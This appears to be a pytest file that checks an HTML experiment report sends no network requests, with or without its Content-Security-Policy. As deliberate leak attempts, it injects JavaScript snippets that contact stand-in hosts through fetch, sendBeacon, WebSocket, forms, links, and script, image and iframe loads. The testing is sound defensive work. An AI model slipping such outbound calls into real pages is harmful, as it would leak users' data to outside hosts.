"""Nothing leaves the report: not by its pictures' buttons, its texts, or what Plotly could do."""

import re
from pathlib import Path

import pytest

from rnnexp.report.page.html import write_report
from tests.helpers.in_chromium import browse, every_host
from tests.helpers.report_runs import write_whole_run

HELPERS = Path(__file__).parents[1] / "helpers"
EVERYTHING = "".join((HELPERS / f"report_{name}.js").read_text() for name in ("page", "ways_out"))
LINK = '<a href="https://elsewhere.example/label">label</a>'
WAYS = {
    "fetch": "fetch('http://a.example/');",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', 'http://b.example/'); "
    "x.send();",
    "beacon": "navigator.sendBeacon('http://c.example/', 'x');",
    "WebSocket": "new WebSocket('ws://d.example/');",
    "EventSource": "new EventSource('http://e.example/');",
    "window.open": "window.open('http://f.example/');",
    "form": "const f = document.createElement('form'); f.action = 'http://g.example/'; "
    "f.target = 'frame'; document.body.append(f); f.submit();",
    "link": "const a = document.createElement('a'); a.href = 'http://h.example/'; "
    "document.body.append(a); a.click();",
}
QUIET = {
    "image": "new Image().src = 'http://i.example/';",
    "style": "const l = document.createElement('link'); l.rel = 'stylesheet'; "
    "l.href = 'http://j.example/'; document.head.append(l);",
    "script": "const s = document.createElement('script'); s.src = 'http://k.example/'; "
    "document.head.append(s);",
    "frame": "const n = document.createElement('iframe'); n.src = 'http://m.example/'; "
    "document.body.append(n);",
}
PAGE = (
    '<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="{policy}">'
    '<style></style></head><body><iframe name="frame"></iframe></body></html>'
)


def attempts(*codes: str) -> str:
    """Pieces of a script of which each goes its own way, whatever becomes of the others."""
    return "\n".join(f"try {{ {code} }} catch {{}}" for code in codes)


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A page of two runs, one of which has a link for a name."""
    folder = tmp_path_factory.mktemp("report")
    for seed, activation in enumerate(("tanh", LINK)):
        changes = {"seed": seed, "cell.activation": activation}
        write_whole_run(folder / "runs", "copy_memory/rnn", changes)
    write_report([folder / "runs"], folder / "report.html")
    return folder / "report.html"


@pytest.mark.parametrize("policy", [True, False], ids=["as it is", "without its policy"])
def test_no_request_leaves_whatever_a_reader_presses(report: Path, policy: bool) -> None:
    """Without its policy too, because a policy stops neither windows nor links."""
    with every_host() as (port, heard):
        seen = browse(report, EVERYTHING, height=6000, hosts=port, policy=policy)
    answer = seen["answer"]
    assert answer["pressed"] == len(answer["buttons"]) >= 4 * 4
    assert answer["hovered"] >= 2 * 4
    titles = " ".join(answer["buttons"]).lower()
    assert not re.search(r"share|cloud|studio|send|upload|produced with|edit", titles), titles
    assert all(config == ["", "", False, None] for config in answer["config"])
    assert answer["dialogs"] == []
    assert [way for way in seen["ways"] if not re.match(r"\w+ (blob|data):", way)] == []
    assert [name for name in seen["resources"] if not re.match("(blob|data):", name)] == []
    assert seen["violations"] == []
    assert heard == []


@pytest.mark.parametrize("names", [[*WAYS], [*QUIET]], ids=["spied", "only heard"])
def test_the_test_itself_sees_every_way_out(tmp_path: Path, names: list[str]) -> None:
    page = tmp_path / "leaks.html"
    page.write_text(PAGE.format(policy="default-src *"))
    script = attempts(*((WAYS | QUIET)[name] for name in names))
    with every_host() as (port, heard):
        seen = browse(page, f"{script} await pause(3000);", hosts=port, policy=False)
    told = {way.split()[0] for way in seen["ways"]}
    assert told == {name for name in names if name in WAYS}
    hosts = {host for text in heard for host in re.findall(rb"[Hh]ost: (\w)\.example", text)}
    assert hosts == set((b"a b c d e g" if "fetch" in names else b"i j k m").split())


def test_the_policy_stops_what_a_policy_can_stop(report: Path) -> None:
    """The belt: the same attempts within the page itself."""
    script = attempts(*WAYS.values(), *QUIET.values()).replace("f.target = 'frame';", "")
    with every_host() as (port, heard):
        seen = browse(report, f"{script} await pause(3000);", height=2000, hosts=port)
    assert b"".join(heard) == b""  # it may connect ahead of a navigation, which is then stopped
    stopped = {violation.split()[0] for violation in seen["violations"]}
    sources = {f"{kind}-src" for kind in ("connect", "img", "frame")}
    assert sources | {"style-src-elem", "script-src-elem", "form-action"} <= stopped
